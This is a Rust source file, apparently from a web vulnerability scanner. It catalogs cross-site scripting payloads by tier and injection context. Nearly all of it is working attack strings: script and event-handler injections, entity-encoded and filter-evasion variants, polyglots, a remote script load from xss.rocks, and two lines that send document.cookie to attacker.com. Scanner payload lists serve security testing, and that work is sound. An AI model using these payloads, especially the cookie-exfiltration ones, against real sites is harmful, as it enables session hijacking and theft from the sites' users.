//! Cross-site scripting payload catalog.

/// Injection context a reflected value lands in. Drives which payload set
/// gives executable markup instead of inert text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum XssContext {
    HtmlTag,
    HtmlAttribute,
    JavaScript,
    Url,
    Unknown,
}

impl XssContext {
    pub fn name(&self) -> &'static str {
        match self {
            XssContext::HtmlTag => "HTML tag",
            XssContext::HtmlAttribute => "HTML attribute",
            XssContext::JavaScript => "JavaScript",
            XssContext::Url => "URL",
            XssContext::Unknown => "unknown",
        }
    }
}

/// Catalog slice for one escalation tier. Polyglots double as the evasion
/// tier here.
pub fn tier(tier: super::Tier) -> Vec<&'static str> {
    match tier {
        super::Tier::Basic => basic(),
        super::Tier::Advanced => advanced(),
        super::Tier::Evasion => polyglot(),
    }
}

/// First-pass detection payloads, cheapest and least likely to trip filters.
pub fn basic() -> Vec<&'static str> {
    vec![
        "<script>alert('XSS')</script>",
        "<img src=x onerror=alert('XSS')>",
        "<svg onload=alert('XSS')>",
        "javascript:alert('XSS')",
        // filter evasion variants
        "<img src=\"x\" onerror=\"javascript:alert('XSS')\">",
        "<body onload=alert('XSS')>",
        "<iframe src=\"javascript:alert('XSS')\">",
        "<script>eval(atob('YWxlcnQoJ1hTUycpOw=='))</script>",
        // DOM sinks
        "<a href=\"javascript:alert('XSS')\">",
        "'><script>alert('XSS')</script>",
        "\"autofocus onfocus=alert('XSS')\"",
    ]
}

/// Filter-evasion and exfiltration payloads tried only when the basic set
/// finds nothing.
pub fn advanced() -> Vec<&'static str> {
    vec![
        "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
        "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
        "<svg/onload=alert('XSS')>",
        // no quotes required
        "<svg onload=alert(document.domain)>",
        "<svg onload=alert(/XSS/)>",
        // entity-encoded handlers
        "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x27;&#x58;&#x53;&#x53;&#x27;&#x29;>",
        "<iframe src=\"javascript:&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;\">",
        // cookie exfiltration
        "<script>fetch('https://attacker.com/steal?cookie='+document.cookie)</script>",
        "<script>new Image().src='https://attacker.com/steal?cookie='+document.cookie</script>",
    ]
}

/// Payloads that break out of several contexts at once.
pub fn polyglot() -> Vec<&'static str> {
    vec![
        "javascript:\"'><script>alert('XSS')</script>",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\u{3c}sVg/<sVg/oNloAd=alert()//>",
        "'\"><img src=x onerror=alert('XSS')>",
        "'\"><svg/onload=alert(/XSS/)//",
    ]
}

/// Payloads tailored to the syntactic context the reflection sits in.
/// Unknown context falls back to the basic set.
pub fn context_specific(context: XssContext) -> Vec<&'static str> {
    match context {
        XssContext::HtmlAttribute => vec![
            "\" onmouseover=alert('XSS') \"",
            "\" onfocus=alert('XSS') autofocus \"",
            "\" onload=alert('XSS') \"",
        ],
        XssContext::HtmlTag => vec![
            "<svg onload=alert('XSS')>",
            "<img src=x onerror=alert('XSS')>",
            "<body onload=alert('XSS')>",
        ],
        XssContext::JavaScript => vec![
            "';alert('XSS');//",
            "\\';alert('XSS');//",
            "</script><script>alert('XSS')</script>",
        ],
        XssContext::Url => vec![
            "javascript:alert('XSS')",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=",
            "data:text/html,<script>alert('XSS')</script>",
        ],
        XssContext::Unknown => basic(),
    }
}
